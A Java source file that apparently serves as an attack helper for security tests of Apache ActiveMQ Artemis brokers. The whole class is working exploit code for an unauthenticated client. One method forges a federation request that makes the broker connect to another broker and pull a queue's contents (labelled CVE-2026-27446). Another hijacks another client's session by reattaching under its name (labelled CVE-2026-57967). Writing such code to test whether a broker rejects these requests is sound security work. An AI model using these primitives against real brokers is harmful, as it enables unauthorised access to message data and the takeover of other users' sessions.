package io.voicewebhooks.attack;

import java.util.Map;
import org.apache.activemq.artemis.api.core.ActiveMQException;
import org.apache.activemq.artemis.api.core.TransportConfiguration;
import org.apache.activemq.artemis.api.core.client.ActiveMQClient;
import org.apache.activemq.artemis.api.core.client.ServerLocator;
import org.apache.activemq.artemis.core.client.impl.ClientSessionFactoryInternal;
import org.apache.activemq.artemis.core.config.federation.FederationDownstreamConfiguration;
import org.apache.activemq.artemis.core.config.federation.FederationQueuePolicyConfiguration;
import org.apache.activemq.artemis.core.config.federation.FederationQueuePolicyConfiguration.Matcher;
import org.apache.activemq.artemis.core.protocol.core.CoreRemotingConnection;
import org.apache.activemq.artemis.core.protocol.core.impl.ChannelImpl.CHANNEL_ID;
import org.apache.activemq.artemis.core.protocol.core.impl.PacketImpl;
import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.FederationDownstreamConnectMessage;
import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.ReattachSessionMessage;
import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.ReattachSessionResponseMessage;

/** Somebody who reaches the port of a broker and has no credentials: he speaks Artemis' own protocol. */
final class Stranger implements AutoCloseable {
    private final ServerLocator locator;
    private final ClientSessionFactoryInternal sessions;
    private final CoreRemotingConnection connection;

    private Stranger(String url) throws Exception {
        locator = ActiveMQClient.createServerLocator(url).setReconnectAttempts(0);
        sessions = (ClientSessionFactoryInternal) locator.createSessionFactory();
        connection = (CoreRemotingConnection) sessions.getConnection();
    }

    static Stranger at(String url) throws Exception {
        return new Stranger(url);
    }

    /** Asks the broker to connect to another one and to fetch what is in a queue there (CVE-2026-27446). */
    void federates(String otherBroker, String user, String password, String queue) throws Exception {
        FederationDownstreamConfiguration stream = new FederationDownstreamConfiguration();
        stream.setName("rogue").addPolicyRef("queues");
        try (ServerLocator other = ActiveMQClient.createServerLocator(otherBroker)) {
            TransportConfiguration address = other.getStaticTransportConfigurations()[0];
            stream.setUpstreamConfiguration(
                    new TransportConfiguration(address.getFactoryClassName(), address.getParams(), "rogue"));
        }
        stream.getConnectionConfiguration()
                .setUsername(user)
                .setPassword(password)
                .setReconnectAttempts(0)
                .setInitialConnectAttempts(1);
        FederationDownstreamConnectMessage request = new FederationDownstreamConnectMessage();
        request.setName("rogue");
        request.setStreamConfiguration(stream);
        request.setFederationPolicyMap(Map.of(
                "queues",
                new FederationQueuePolicyConfiguration()
                        .setName("queues")
                        .addInclude(new Matcher().setQueueMatch(queue).setAddressMatch("#"))));
        connection.getChannel(CHANNEL_ID.FEDERATION.id, -1).send(request);
    }

    /** Asks for somebody else's session by its name (CVE-2026-57967): whether the broker hands it over. */
    boolean takesOver(String session) {
        try {
            return ((ReattachSessionResponseMessage) connection
                            .getChannel(CHANNEL_ID.SESSION.id, -1)
                            .sendBlocking(new ReattachSessionMessage(session, -1), PacketImpl.REATTACH_SESSION_RESP))
                    .isReattached();
        } catch (ActiveMQException e) {
            return false;
        }
    }

    /** Whether the broker has thrown him out. */
    boolean isThrownOut() {
        return !connection.getTransportConnection().isOpen();
    }

    @Override
    public void close() {
        sessions.close();
        locator.close();
    }
}
